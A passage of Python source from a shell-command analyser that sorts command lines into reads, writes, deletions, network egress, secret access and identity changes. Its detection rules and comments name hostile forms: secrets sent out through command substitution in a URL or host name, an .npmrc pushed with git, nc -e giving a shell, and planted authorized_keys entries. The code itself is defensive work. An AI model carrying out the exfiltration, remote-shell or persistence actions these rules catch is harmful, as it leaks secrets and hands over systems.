    facts.add(C.EXECUTE, f"runs {program}")
    # … and its subcommand reads like a tool's name (``kcadm.sh add-roles``, ``mytool users create``): the
    # same words say what it does. Not where the "program" is itself a verb: a network device's CLI read as
    # a shell line (``show … | display set``, ``commit comment X``) has no program and subcommand.
    plain_verb = words.verb_stem(program) is not None
    subcommand = [] if plain_verb else list(itertools.takewhile(_SUBCOMMAND.match, args[:2]))
    for capability, why in words.name_capabilities("_".join(subcommand)) if subcommand else ():
        facts.add(capability, f"{program} {' '.join(subcommand)}: {why}")
    if _SAYS_DELETE & set(args[:6]) or (operands[1:2] and operands[1] in _SAYS_DELETE):
        facts.add(
            C.DELETE,
            f"{program} deletes (it says so: {sorted(_SAYS_DELETE & {*args[:6], *operands[1:2]})[0]})",
        )
    # … and one whose options say it writes its changes or tells people (``billrun rerun --commit --notify
    # email,sms``): an in-house tool says what it does in its flags as a tool's name does in its words
    flags = {a.split("=", 1)[0] for a in args if a.startswith("--")}
    if flags & _SAYS_COMMIT:
        facts.add(C.WRITE, f"{program} writes its changes ({sorted(flags & _SAYS_COMMIT)[0]})")
    if flags & _SAYS_NOTIFY:
        facts.add(C.COMMUNICATE, f"{program} sends notices ({sorted(flags & _SAYS_NOTIFY)[0]})")
    if "/" in argv[0] or program.endswith((".sh", ".py", ".bash", ".pl", ".rb")):
        facts.executed.append(argv[0])


_SAYS_COMMIT = frozenset("--commit --apply --execute --write --no-dry-run".split())
_SAYS_NOTIFY = frozenset("--notify --send-notifications --email-customers --send-email --send-sms".split())


def _read(path: str, facts: ShellFacts, why: str) -> None:
    facts.read.append(path)
    facts.add(C.READ, why)
    if is_secret_path(path):
        facts.flags.add("secret_read")
        facts.add(C.SECRET, f"{why}: {path} holds a secret")


def _gpg_files(args: list[str]) -> list[str]:
    """The files a gpg line names, not the values of its options (``-r bob``, ``--homedir /keys``)."""
    return _operands(["gpg", *(a for i, a in enumerate(args) if i == 0 or args[i - 1] not in _GPG_VALUED)])


_ENCRYPTS = frozenset("-e --encrypt".split())
_VERIFIES = frozenset("--verify --verify-files".split())
_GPG_SECRET_WORK = frozenset(
    "-d --decrypt -s --sign --clearsign --detach-sign -c --symmetric --export-secret-keys"
    " --export-secret-subkeys".split()
)
_GPG_VALUED = frozenset("-r --recipient -o --output -u --local-user --homedir --trust-model".split())
_REDIRECTED, _TEED = "a redirection", "tee writes it"


def _written(path: str, facts: ShellFacts, why: str) -> None:
    if path in ("/dev/null", "/dev/stdout", "/dev/stderr", "&1", "&2", "1", "2") or path.startswith("&"):
        return
    if is_device(path):
        facts.flags.add("device_write")
        facts.add(C.DELETE, f"{why}: overwrites the disk {path}")
        return
    facts.written.append(path)
    if why in (_REDIRECTED, _TEED):
        facts.outputs.append(path)
    facts.add(C.WRITE, why)
    if is_system_path(path) or path.startswith(("/etc/", "/boot/", "/usr/", "/bin/", "/sbin/", "/lib")):
        facts.flags.add("system_path")
    if is_home_dotfile(path) and re.search(r"(bash|zsh)rc|profile", path):
        facts.flags.add("persistence")
    if re.search(r"(^|/)etc/(sudoers|passwd|shadow|group)", path):
        facts.flags.add("user_admin")
        facts.add(C.IDENTITY, f"{why}: {path} decides who is who")
    if re.search(r"(^|/)\.ssh/authorized_keys2?$", path):  # a key that logs in as this user from now on
        facts.flags.add("persistence")
        facts.add(C.IDENTITY, f"{why}: {path} lets a key log in")


# PowerShell cmdlets are Verb-Noun; the approved verbs say what a cmdlet does (Microsoft's list of
# approved verbs), so unknown cmdlets are read by their verb.
_CMDLET = re.compile(r"^[A-Z][a-z]+-[A-Z][A-Za-z]+$")
_PS_ALIASES = {
    "iwr": "invoke-webrequest",
    "irm": "invoke-restmethod",
    "ri": "remove-item",
    "del": "remove-item",
}
_PS_VERBS: dict[str, C] = {
    **dict.fromkeys(
        "get select find test measure search compare resolve read show format wait".split(), C.READ
    ),
    **dict.fromkeys(
        "set new add out copy move rename compress expand export write import update enable disable "
        "register save edit".split(),
        C.WRITE,
    ),
    **dict.fromkeys("remove clear uninstall unregister stop".split(), C.DELETE),
    **dict.fromkeys("invoke start install".split(), C.EXECUTE),
    "send": C.COMMUNICATE,
    **dict.fromkeys("grant revoke".split(), C.IDENTITY),  # Grant-SmbShareAccess, Revoke-SmbShareAccess
}


def _powershell(program: str, args: list[str], operands: list[str], facts: ShellFacts) -> None:
    name = _PS_ALIASES.get(program.lower(), program.lower())
    verb = name.split("-", 1)[0]
    if name in ("invoke-webrequest", "invoke-restmethod"):
        urls = [u for a in args for u in urls_in(a)]
        facts.destinations += urls[:3]
        method = next((args[i + 1] for i, a in enumerate(args[:-1]) if a.lower() == "-method"), "get")
        sends = method.lower() in ("post", "put", "patch") or any(
            a.lower() in ("-infile", "-form") for a in args
        )
        for found in re.findall(r"(?i)-InFile\s+(\S+)|Get-Item\s+([^\s;})]+)", " ".join(args)):
            _sent(next(p for p in found if p), facts, f"{program} uploads it")
        facts.add(
            C.EGRESS if sends else C.FETCH,
            f"{program} {'sends data to' if sends else 'requests'} {urls[0] if urls else 'a URL'}",
        )
        return
    capability = _PS_VERBS.get(verb, C.EXECUTE)
    unc = [a for a in operands if a.startswith("\\")]
    if name in ("copy-item", "move-item") and unc:  # to a network share: \\host\share
        found = re.match(r"\\+(\d+\.\d+\.\d+\.\d+|[\w.-]+)", unc[-1])
        host = found.group(1) if found else "a network share"
        facts.destinations.append(f"smb://{host}")
        for path in [a for a in operands if a not in unc][:4]:
            _sent(path, facts, f"{program} copies it to a network share")
        return
    if name == "remove-item":
        for path in [a for a in operands if not a.startswith("$")][:8]:
            _deleted(path.rstrip(","), facts, f"{program} removes it")
        if any(a.lower() == "-recurse" for a in args):
            facts.flags.add("recursive_delete")
        return
    facts.add(
        capability,
        f"{program} ({verb}) {capability.value}s" if capability is not C.READ else f"{program} reads",
    )


def _deleted(path: str, facts: ShellFacts, why: str) -> None:
    facts.deleted.append(path)
    facts.add(C.DELETE, why)
    if is_system_path(path):
        facts.flags.add("system_path")
    if is_audit_evidence(path):
        facts.flags.add("audit_evidence")
    if is_log_path(path):
        facts.flags.add("log_path")
    elif is_service_data(path):
        facts.flags.add("service_data")
    if _BACKUP_PART.search(path) and not _scratch_or_test(path):
        facts.flags.add("backup_data")
    if is_secret_path(path):
        facts.add(C.SECRET, f"{why}: {path} holds a secret")


# a folder of backups, archives or snapshots: the copy to restore from, kept on purpose
_BACKUP_PART = re.compile(r"(?i)(?:^|/)(?:backups?|archives?|snapshots?|bak)(?:/|$)")
# … but not one inside a scratch or cache place (``/var/cache/apt/archives``, ``/tmp/backup``: a folder
# ``TEMPORARY`` names, above it), nor a test suite's recorded output (``tests/snapshots``: written again)
_TEST_SNAPSHOTS = re.compile(r"(?i)(?:^|/)(?:tests?|src|spec)/(?:[^/]+/)*snapshots?(?:/|$)")


def _scratch_or_test(path: str) -> bool:
    return TEMPORARY.search(posixpath.dirname(path)) is not None or _TEST_SNAPSHOTS.search(path) is not None


def _delete(program: str, args: list[str], operands: list[str], facts: ShellFacts) -> None:
    flags = "".join(a.lstrip("-") for a in args if a.startswith("-") and not a.startswith("--"))
    if "r" in flags.lower() or "--recursive" in args or program == "rmdir":
        facts.flags.add("recursive_delete")
    for path in operands or ["?"]:
        _deleted(path, facts, f"{program} removes it")
    if "--no-preserve-root" in args:
        facts.flags.add("system_path")


def _git(args: list[str], operands: list[str], facts: ShellFacts) -> None:
    args = _without_git_options(args)  # (``git -C repo log``: "repo" is where, ``log`` what)
    operands = [a for a in args if not a.startswith("-")]
    sub = next((a for a in args if not a.startswith("-")), "")
    if sub in ("clone", "fetch", "pull", "ls-remote", "submodule"):
        facts.add(C.FETCH, f"git {sub} downloads from a remote")
        facts.add(C.WRITE, f"git {sub} writes the working tree")
        facts.destinations += [a for a in operands if is_remote_spec(a)]
    elif sub == "push":
        facts.add(C.EGRESS, "git push sends commits to a remote")
        for path in facts.added:  # ``cp ~/.npmrc . && git add .npmrc && git commit … && git push``
            if is_secret_path(path):  # other files pushed are the repository's business
                _sent(path, facts, "git push sends it, added to a commit")
        if any(a in ("-f", "--force", "--force-with-lease", "--mirror", "--delete", "-d") for a in args):
            facts.flags.add("force_push")
            facts.add(C.DELETE, "git push --force/--delete rewrites remote history")
            if any(a.rsplit(":", 1)[-1].removeprefix("+") in ("main", "master") for a in operands):
                facts.flags.add("default_branch")
    elif sub == "add":
        facts.add(C.WRITE, "git add stages changes")
        facts.added += [a for a in operands[1:] if a not in (".", "-A")]
        if "." in operands[1:] or any(a in ("-A", "--all") for a in args):
            facts.flags.add("add_all")  # (every change under the working directory)
    elif sub in ("clean",) and any("f" in a for a in args if a.startswith("-")):
        facts.add(C.DELETE, "git clean -f deletes untracked files")
    elif sub == "reset" and "--hard" in args:
        facts.add(C.DELETE, "git reset --hard discards changes")
    elif sub in ("rm",):
        facts.add(C.DELETE, "git rm removes files")
    elif sub == "branch" and any(a in ("-D", "-d", "--delete") for a in args):
        facts.add(C.DELETE, "git branch -D deletes a branch")
    elif sub == "remote" and len(operands) >= 3 and operands[1] in ("add", "set-url"):
        facts.add(C.WRITE, "git remote add points the repository at another remote")
        facts.destinations += [a for a in operands[2:] if is_remote_spec(a)]
    elif sub in (
        "log",
        "show",
        "status",
        "diff",
        "branch",
        "remote",
        "rev-parse",
        "blame",
        "grep",
        "ls-files",
        "describe",
        "tag",
        "config",
    ):
        facts.add(C.READ, f"git {sub} reads the repository")
        if sub == "config" and len(operands) >= 3:
            facts.add(C.WRITE, "git config sets an option")
    else:
        facts.add(C.WRITE, f"git {sub or ''} changes the repository".replace("  ", " "))


_GIT_OPTIONS_WITH_VALUE = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace", "--config-env"})


def _without_git_options(args: list[str]) -> list[str]:
    """git's arguments without the options before its command that take a value (``-C path``)."""
    for i, arg in enumerate(args):
        if arg in _GIT_OPTIONS_WITH_VALUE:
            return _without_git_options(args[:i] + args[i + 2 :])
        if not arg.startswith("-"):
            break  # the command: what follows is its own
    return args


# a host name, possibly with a redacted secret for a label (``[REDACTED:…].collector.example``)
_BARE_HOST = re.compile(r"^(?:\[REDACTED:[a-z0-9_]+:[0-9a-f]{12}\]\.)?[\w.-]+\.[a-z]{2,}(/|$)")


# a host name whose first label is a command's output (``$(…)``, backticks); not a variable (``$SVC.svc``)
_COMPUTED_LABEL = re.compile(r"^(?:\$\(.*\)|`.*`)\.([\w-]+(?:\.[\w-]+)*\.[a-z]{2,})/?$", re.S)


_URL_PATH_START = re.compile(r"://[^\s/?]+[/?]")


def _substituted_url(arg: str) -> bool:
    """A URL whose path or query holds a command substitution (``…/refresh?t=$(…)``): in one word, the
    last ``$(`` or backquote after a URL's host (found in one pass: a regex tried from every ``://``
    rescanned the rest of the word each time)."""
    for word in arg.split():
        last = max(word.rfind("$("), word.rfind("`"))
        if last > 0 and _URL_PATH_START.search(word, 0, last):
            return True
    return False


def _fetch_or_send(program: str, args: list[str], facts: ShellFacts, simple: _Simple) -> None:
    urls = [u for a in args for u in urls_in(a)] or [a for a in args if _BARE_HOST.match(a)]
    facts.destinations += urls
    sending, sent_before = False, len(facts.sent)
    for index, arg in enumerate(args):
        if program in ("curl",) and _CURL_SENDS.match(arg):
            value = args[index + 1] if index + 1 < len(args) else ""
            if arg in ("-X", "--request"):
                sending = sending or value.upper() in _SENDING_METHODS
                if (
                    value.upper() == "DELETE"
                ):  # the resource at the URL removed (``curl -X DELETE …/repos/x``)
                    facts.add(C.DELETE, f"{program} -X DELETE removes what the URL names")
                continue
            sending = True
            payload = arg.split("=", 1)[1] if "=" in arg and arg.startswith("--") else value
            for path in re.findall(r"@([^\s;,]+)", payload) + (
                [payload] if arg in ("-T", "--upload-file") else []
            ):
                _sent(path, facts, f"{program} uploads it")
        if program == "wget" and arg.upper() == "--METHOD=DELETE":
            facts.add(C.DELETE, "wget --method=DELETE removes what the URL names")
        if program in ("http", "https", "httpie") and index == 0 and arg.upper() == "DELETE":
            facts.add(C.DELETE, f"{program} DELETE removes what the URL names")
        if program == "wget" and (
            arg.startswith("--post-") or arg.startswith("--body-") or arg in ("--method=POST", "--method=PUT")
        ):
            sending = True
            if arg.startswith(("--post-file=", "--body-file=")):
                _sent(arg.split("=", 1)[1], facts, "wget posts it")
        if program in ("http", "https", "httpie") and index == 0 and arg.upper() in _SENDING_METHODS:
            sending = True
        if program in ("http", "https", "httpie") and "=" in arg and "://" not in arg:
            sending = True
    computed = [m for a in args if (m := _COMPUTED_LABEL.match(a))]  # $(…).collector.example
    urls += [m.group(1) for m in computed]
    facts.destinations += [m.group(1) for m in computed]
    remote = [u for u in urls if not is_local_host(host_of(u))]
    smuggled = next((why for u in remote if (why := data_in_host(u))), None)
    if computed:
        smuggled = f"a command's output as a label of {computed[0].group(1)}"
    # a URL whose path or query is a command's output (``…/refresh?t=$(grep TOKEN .env | cut -d= -f2)``)
    if not smuggled and any(_substituted_url(a) for a in args):
        facts.add(C.EGRESS, f"{program} sends a command's output in its URL")
        if "secret_read" in facts.flags:  # (the substitution read a secret: it leaves in the URL)
            facts.flags.add("secret_sent")
    if smuggled:  # a lookup or request whose host name is the payload
        facts.add(C.EGRESS, f"{program} sends data in a host name: {smuggled}")
    elif sending and urls and all(LOGIN_URL.search(u) for u in urls) and sent_before == len(facts.sent):
        facts.add(C.FETCH, f"{program} signs in at {urls[0][:80]}")  # a login form's fields authenticate
    elif sending:
        facts.add(C.EGRESS, f"{program} sends data to {remote[0] if remote else 'a URL'}")
    else:
        facts.add(C.FETCH, f"{program} requests {remote[0] if remote else 'a URL'}")
    if "-o" in args or "-O" in args or "--output" in args:
        facts.add(C.WRITE, f"{program} saves what it downloads")
        at = next(i for i, a in enumerate(args) if a in ("-o", "-O", "--output"))
        if at + 1 < len(args) and not args[at + 1].startswith("-"):
            facts.written.append(args[at + 1])  # (curl's -O takes no name: it keeps the URL's)


# rsync options that delete: files in the destination the source lacks, or the source files once copied
_RSYNC_DELETES = ("--delete", "--del", "--remove-source-files")
_DELETING = re.compile(r"(?m)^deleting \S|\((\d[\d,]*) more deletions\)")


def login_keys_written(shell: ShellFacts | None) -> bool:
    """Whether a shell line writes a file of keys that log in (``~/.ssh/authorized_keys``): the channel a
    planted key takes over."""
    return shell is not None and any(_LOGIN_KEYS.search(path) for path in shell.written)


_LOGIN_KEYS = re.compile(r"(^|/)\.ssh/authorized_keys2?$")


def mirror_deletions(output: str | None) -> int:
    """How many files a mirror's output says it deleted (rsync -v prints ``deleting path`` for each)."""
    found = _DELETING.findall((output or "")[:20_000])
    return sum(int(n.replace(",", "")) if n else 1 for n in found)


def _send(program: str, args: list[str], operands: list[str], facts: ShellFacts, simple: _Simple) -> None:
    if program == "rsync" and len(operands) >= 2 and any(a.startswith(_RSYNC_DELETES) for a in args):
        # ``rsync -a --delete new/ /mnt/shared/``: a mirror, which removes what the destination holds beyond
        # the source (the whole shared drive, when the source is one new folder)
        removes_source = "--remove-source-files" in args
        for path in operands[:-1] if removes_source else operands[-1:]:
            _deleted(
                path, facts, "rsync removes the source files" if removes_source else "rsync --delete mirrors"
            )
    if program in ("scp", "rsync", "sftp"):
        # (``-i ~/.ssh/key`` logs in with the key, ``-e "ssh -i key"`` too, ``-P 2222`` is a port: none sent)
        operands = [
            a
            for i, a in enumerate(args)
            if not a.startswith("-") and (i == 0 or args[i - 1] not in _COPY_VALUED)
        ]
        if program == "sftp" and operands and not any(is_remote_spec(a) for a in operands):
            # ``sftp -b - user@host`` with ``put …`` piped in: a batch of transfers, which can upload
            facts.destinations.append(operands[-1])
            batch = "-b" in args or simple.piped_in or bool(simple.redirects_in)
            facts.add(C.EGRESS if batch else C.FETCH, f"sftp transfers files with {operands[-1]}")
            return
        remote_index = [i for i, a in enumerate(operands) if is_remote_spec(a)]
        if remote_index and remote_index[-1] == len(operands) - 1 and len(operands) >= 2:
            for path in operands[:-1]:
                _sent(path, facts, f"{program} copies it to {operands[-1]}")
            facts.destinations.append(operands[-1])
            facts.add(C.EGRESS, f"{program} copies files to another host")
        elif remote_index:
            facts.destinations.append(operands[remote_index[0]])
            facts.add(C.FETCH, f"{program} copies files from another host")
            if operands:
                _written(operands[-1], facts, f"{program} writes it")
        else:
            facts.add(C.WRITE, f"{program} copies files")
        return
    if program == "ssh":
        host = next((a for a in operands), None)
        if host:
            facts.destinations.append(host)
        facts.add(C.EXECUTE, "ssh runs commands on another host")
        if len(operands) > 1:
            facts.merge(analyse(" ".join(operands[1:]), MAX_DEPTH))
        remote = " ".join(operands[1:])
        if simple.redirects_in and re.search(r"\b(ba|z|da)?sh\b", remote):
            facts.executed += simple.redirects_in[:1]  # ``ssh host 'bash -s' < setup.sh`` runs setup.sh there
        elif simple.redirects_in or simple.piped_in:
            facts.add(C.EGRESS, "ssh sends local data to another host")
        return
    # nc / socat / telnet / ftp: a raw connection; with input it sends data
    values = {args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-e", "-c", "-p", "-s", "-w")}
    host = next((a for a in operands if not a.isdigit() and a not in values), None)
    if host:
        facts.destinations.append(host)
    if simple.redirects_in or simple.piped_in or "-e" in args or "-c" in args:
        facts.add(C.EGRESS, f"{program} sends data over a raw connection")
        for path in simple.redirects_in:
            _sent(path, facts, f"{program} sends it")
        if ("-e" in args or "-c" in args) and program in _SHELL_RELAYS:  # lftp -e runs lftp's own commands
            facts.flags.add("remote_code")
            facts.add(C.EXECUTE, f"{program} hands a shell to the network")
    else:
        facts.add(C.FETCH, f"{program} opens a network connection")


_COPY_VALUED = frozenset("-i -P -F -o -c -l -S -J -e -b -B -R -s -D".split())  # scp / rsync / sftp options


def _sent(path: str, facts: ShellFacts, why: str) -> None:
    if not path:
        return
    if path == "-":  # what the pipe brings: another command's output leaves (``… | curl --data @- …``)
        facts.sent.append("<piped output>")
        facts.add(C.EGRESS, why)
        return
    facts.sent.append(path)
    facts.add(C.EGRESS, why)
    if is_secret_path(path):
        facts.flags.add("secret_sent")
        facts.flags.add("secret_read")
        facts.add(C.SECRET, f"{why}: {path} holds a secret")


_SQL_CLIENTS = frozenset(
    {"psql", "mysql", "mariadb", "sqlite3", "sqlcmd", "clickhouse-client", "duckdb", "bq", "snowsql"}
)
_SQL_OPTIONS = frozenset({"-c", "--command", "-e", "--execute", "-Q", "--query", "-q"})


_CHANGING_SQL = re.compile(r"(?is)^\s*(update|delete|insert|drop|truncate|alter|grant|revoke)\s")


def _sql_of(program: str, args: list[str], operands: list[str]) -> tuple[C, str] | None:
    """What the statement a database client runs does (``psql -c "DROP TABLE …"``, ``sqlite3 db.sqlite
    "DELETE …"``)."""
    statements = [args[i + 1] for i, a in enumerate(args[:-1]) if a in _SQL_OPTIONS]
    statements += [a.split("=", 1)[1] for a in args if a.startswith(("--command=", "--execute=", "--query="))]
    if (program in ("sqlite3", "duckdb") and len(operands) > 1) or (
        program == "bq" and operands[:1] == ["query"]
    ):
        statements.append(operands[-1])
    found = [sql for text in statements if (sql := words.sql_capability(text))]
    graver = [f for f in found if f[0] is not C.READ]
    return next(iter(graver or found), None)


# Redis commands by what they do (redis.io/commands); the first word after redis-cli's options is the command
_REDIS = {
    C.DELETE: frozenset(
        "flushall flushdb del unlink getdel expire pexpire hdel srem zrem lrem ltrim zremrangebyscore "
        "zremrangebyrank shutdown".split()
    ),
    C.WRITE: frozenset("set mset setex hset hmset lpush rpush sadd zadd incr decr rename config".split()),
    C.IDENTITY: frozenset({"acl"}),
    C.READ: frozenset(
        "get mget hget hgetall hkeys keys scan sscan hscan zscan exists ttl pttl type info dbsize ping "
        "llen lrange smembers scard zrange zcard strlen memory slowlog client".split()
    ),
}
_REDIS_VALUED = frozenset("-h -p -a -n -u -s -r -i --user --pass --pattern --cacert --cert --key".split())


def _redis_of(args: list[str]) -> tuple[C, str] | None:
    """What a ``redis-cli`` line does: ``FLUSHALL``, ``DEL`` delete, ``SET`` writes, ``GET`` reads; any
    other command (``EVAL``, ``REPLICAOF``, ``MIGRATE``) runs."""
    words = [
        a.lower()
        for i, a in enumerate(args)
        if not a.startswith("-") and (i == 0 or args[i - 1] not in _REDIS_VALUED)
    ]
    command = words[0] if words else ("scan" if "--scan" in args else "")
    found = next((c for c, names in _REDIS.items() if command in names), C.EXECUTE if command else None)
    return None if found is None else (found, f"runs {command.upper()}")


# MongoDB shell statements (mongosh): the first method of the chain that acts decides
_MONGO = re.compile(r"^\s*db\b")
_MONGO_CALL = re.compile(r"\.(\w+)\s*\(|\{\s*(drop\w*|delete|update|insert)\s*:")
_MONGO_METHODS = {
    **dict.fromkeys(
        "deletemany deleteone remove drop dropdatabase findoneanddelete delete dropindexes".split(), C.DELETE
    ),
    **dict.fromkeys(
        "insertone insertmany updateone updatemany replaceone renamecollection bulkwrite findoneandupdate "
        "findoneandreplace update insert".split(),
        C.WRITE,
    ),
    **dict.fromkeys("createuser grantrolestouser updateuser dropuser".split(), C.IDENTITY),
}
_MONGO_READS = frozenset(
    "find findone countdocuments count aggregate distinct stats getcollection getsiblingdb "
    "getcollectionnames explain limit sort toarray pretty".split()
)


def _mongo_of(statement: str) -> tuple[C, str]:
    """What a MongoDB shell statement does: the first acting method, reads when every method reads, and
    runs otherwise (``db.runCommand({…})``, ``db.eval(…)``)."""
    calls = [(m.group(1) or m.group(2)).lower() for m in _MONGO_CALL.finditer(statement[:4000])]
    acting = next((_MONGO_METHODS[c] for c in calls if c in _MONGO_METHODS), None)
    found = acting or (C.READ if calls and set(calls) <= _MONGO_READS else C.EXECUTE)
    return found, f"MongoDB {', '.join(calls[:3]) or 'statement'}"


_EXEC_VALUED = frozenset("-e --env -u --user -w --workdir -c --container -n --namespace --context".split())


def _exec_command(program: str, args: list[str]) -> list[str] | None:
    """The command of ``kubectl … exec POD -- CMD`` or ``docker exec [opts] CONTAINER CMD``, else None."""
    if program in ("kubectl", "oc") and "exec" in args and "--" in args:
        return args[args.index("--") + 1 :] or None
    if program not in ("docker", "podman") or "exec" not in args[:2]:
        return None
    rest, skip, container = args[args.index("exec") + 1 :], False, None
    for i, arg in enumerate(rest):
        if skip or arg.startswith("-"):
            skip = not skip and arg in _EXEC_VALUED
            continue
        if container is None:
            container = arg
            continue
        return rest[i:]
    return None


_SHELL_RELAYS = frozenset({"nc", "ncat", "netcat", "socat", "telnet"})  # -e / -c run a program on the socket


# Secret stores' command lines (program, subcommand words): setting a CI secret, a vault entry, a cloud
# secret is where a key belongs, not a leak; reading one is a secret read.
_SECRET_STORE_WRITES = re.compile(
    r"^(gh secret set|glab variable (set|create|update)|vault (kv (put|patch)|write)|doppler secrets set"
    r"|infisical secrets set|aws secretsmanager (put-secret-value|create-secret|update-secret)"
    r"|aws ssm put-parameter|gcloud secrets (create|versions add)|az keyvault secret set"
    r"|kubectl create secret|op item (create|edit))\b"
)
_SECRET_STORE_READS = re.compile(
    r"^(gh secret list|vault (kv get|read)|doppler secrets( get)?|infisical secrets( get)?"
    r"|gcloud secrets versions access|az keyvault secret show|op (read|item get))\b"
)


# a command that registers a webhook or subscription (``stripe webhook_endpoints create --url …``,
# ``aws sns subscribe --notification-endpoint …``)
_WEBHOOK = re.compile(
    r"\b(webhooks?|webhook_endpoints|hooks|subscriptions?|notification-endpoint)\b[^;&|\n]{0,200}\b(create|add|register|"
    r"subscribe|put|update)\b|\b(create|add|register|subscribe)\b[^;&|\n]{0,200}\b(webhooks?|webhook_endpoints|hooks)\b"
    r"|\bsns subscribe\b",
    re.I,
)
# GitHub REST paths that change who may do what (collaborators, teams, keys, branch protection)
_GH_ACCESS = re.compile(
    r"/(collaborators|members|memberships|teams|permissions|keys|invitations|protection|rulesets|admins)\b"
)


def _gh_api(args: list[str], operands: list[str], facts: ShellFacts) -> None:
    """``gh api`` by its method and path: ``-X PUT repos/o/r/collaborators/u -f permission=admin`` changes
    access; a hook registered sends events out; a GET reads."""
    methods = [args[i + 1].upper() for i, a in enumerate(args[:-1]) if a in ("-X", "--method")]
    fields = any(a in ("-f", "-F", "--field", "--raw-field", "--input") for a in args)
    method = methods[0] if methods else ("POST" if fields else "GET")
    valued = {
        "-X",
        "--method",
        "-H",
        "--header",
        "-f",
        "-F",
        "--field",
        "--raw-field",
        "--input",
        "-q",
        "--jq",
    }
    path = next(
        (a for i, a in enumerate(args[1:], 1) if not a.startswith("-") and args[i - 1] not in valued), ""
    )
    if method == "GET":
        facts.add(C.READ, f"gh api GET {path[:60]} reads")
    elif method == "DELETE":
        facts.add(C.DELETE, f"gh api DELETE {path[:60]} deletes")
    elif _GH_ACCESS.search(path):
        facts.add(C.IDENTITY, f"gh api {method} {path[:60]} changes access")
    elif path.rstrip("/").endswith("/hooks"):
        facts.add(C.EGRESS, f"gh api {method} {path[:60]} registers a webhook")
        facts.destinations += urls_in(" ".join(args))[:4]
    else:
        facts.add(C.WRITE, f"gh api {method} {path[:60]} changes the repository")


# password-manager CLIs that give or take vault access (1Password ``op``, Bitwarden ``bw``)
_VAULT_ACCESS = re.compile(
    r"^(op (vault (user|group) (grant|revoke)|user (provision|confirm|delete|suspend|reactivate)|group user "
    r"(grant|revoke))|bw (confirm|move) )"
)


def _secret_store(program: str, operands: list[str]) -> str | None:
    line = " ".join([program, *operands[:3]])
    if _SECRET_STORE_WRITES.match(line):
        return "writes to"
    return "reads from" if _SECRET_STORE_READS.match(line) else None


_SYSTEMCTL_READS = frozenset(
    """status is-active is-enabled is-failed show cat list-units list-unit-files list-timers
    list-dependencies""".split()
)
_BUCKET_URL = re.compile(r"^(s3|gs|az)://[\w.-]+")


def _expiring(args: list[str]) -> list[str]:
    """The places a bucket's lifecycle rules expire (``s3://bucket/prefix``; an empty prefix: the whole
    bucket): a deletion deferred by a day is a deletion. Empty when no rule expires anything."""
    bucket = next((b for a, b in itertools.pairwise(args) if a == "--bucket"), None)
    rules = " ".join(args)
    if bucket is None or _EXPIRATION.search(rules) is None:
        return []
    return [f"s3://{bucket}/{prefix}" for prefix in dict.fromkeys(_PREFIX.findall(rules) or [""])]


_EXPIRATION = re.compile(r"\bExpiration\b|\bNoncurrentVersionExpiration\b")
_PREFIX = re.compile(r"\"Prefix\"\s*:\s*\"([^\"]*)\"")


def _cloud_cli(program: str, args: list[str], operands: list[str], facts: ShellFacts) -> None:
    buckets = [a for a in operands if _BUCKET_URL.match(a)]  # the objects or prefixes the line names
    # (the subcommands, not the bucket paths: ``aws s3 ls s3://evidence/rm-queue/`` removes nothing)
    words = " ".join(a for a in operands if "://" not in a).lower()
    if re.search(r"\b(rm|rb|delete[\w-]*|remove[\w-]*|terminate[\w-]*|destroy)\b", words):
        facts.add(C.DELETE, f"{program} deletes cloud resources")
        facts.deleted += buckets  # (kept without the path flags: a bucket is no system folder)
        if {"--recursive", "-r", "-R"} & set(args) or re.search(r"\b(purge|delete-batch|rb)\b", words):
            facts.flags.add("recursive_delete")  # (every object under the prefix)
    elif "put-bucket-lifecycle" in words and (expiring := _expiring(args)):
        facts.add(C.DELETE, f"{program} sets a lifecycle rule that deletes what it covers")
        facts.deleted += expiring
    elif re.search(r"\b(ls|cat)\b", words) or (re.search(r"\bcp\b", words) and args[-1:] == ["-"]):
        facts.read += buckets  # listed, or copied to the terminal: read
    if re.search(r"\b(cp|sync|mv|copy|copyto|move|moveto)\b", words):
        # the destination is the last location; option values (``--profile x``) may follow it; rclone names
        # its remotes ``name:path`` (``rclone copy data.csv dropbox-personal:backup``)
        cloud = r"^(s3|gs|az)://" if program != "rclone" else r"^(s3|gs|az)://|^[\w.-]+:(?!//)"
        places = [a for a in operands if re.match(cloud, a) or "/" in a or "." in a]
        if places and re.match(cloud, places[-1]) and len(places) >= 2:
            facts.add(C.EGRESS, f"{program} copies data into a bucket")
            facts.destinations.append(places[-1])
            for path in places[:-1]:
                if not re.match(cloud, path):
                    _sent(path, facts, f"{program} uploads it")
        else:
            facts.add(C.FETCH, f"{program} copies data out of a bucket")
    if re.search(r"\b(get-secret-value|get-parameters?|decrypt|get-password-data|secrets)\b", words):
        facts.add(C.SECRET, f"{program} reads a secret")
    if re.search(
        r"\b((attach|put|detach)-[\w-]*policy|create-(user|role|group|access-key|login-profile|policy[\w-]*)"
        r"|add-user-to-group|update-assume-role-policy|add-iam-policy-binding|set-iam-policy)\b"
        r"|\brole assignment create\b|\bad (?:group member add|user create|group owner add|sp create)\b",
        words,
    ) or (
        # (Microsoft Graph through ``az rest``: a guest invited, a member or an app role added)
        re.search(r"\brest\b", words)
        and any(
            re.search(r"graph\.microsoft\.com/\S*/(invitations|members|owners|approleassignments)", a.lower())
            for a in args
        )
    ):
        facts.add(C.IDENTITY, f"{program} changes identities or policies")
    if re.search(r"\b(describe[\w-]*|list[\w-]*|get[\w-]*|ls)\b", words):
        facts.add(C.READ, f"{program} reads cloud state")
    if not facts.capabilities:
        facts.add(C.WRITE, f"{program} changes cloud resources")


_ORCHESTRATOR_READS = frozenset(
    """get describe logs log top ls ps inspect images image version explain diff history status events info
    api-resources api-versions cluster-info auth whoami stats port-forward template lint search show list
    plan output validate fmt providers workspace graph state config view show-plan df""".split()
)


# options of docker, kubectl, helm and terraform that take a value (``-n orders logs``: the subcommand is
# ``logs``, not ``orders``)
_VALUED_OPTIONS = frozenset(
    "-n --namespace --context --kubeconfig --cluster --user -c --chdir -H --host -l --selector -o --output "
    "--profile --region --log-level --kube-context --repo".split()
)


def _orchestrator(program: str, args: list[str], facts: ShellFacts) -> None:
    sub = next(
        (
            a
            for i, a in enumerate(args)
            if not a.startswith("-") and (i == 0 or args[i - 1] not in _VALUED_OPTIONS)
        ),
        "",
    )
    if sub == "create" and any(a in ("rolebinding", "clusterrolebinding") for a in args):
        facts.add(C.IDENTITY, f"{program} create a role binding grants a role")
        return
    if sub == "adm" and "policy" in args:  # ``oc adm policy add-scc-to-group``, ``add-role-to-user``
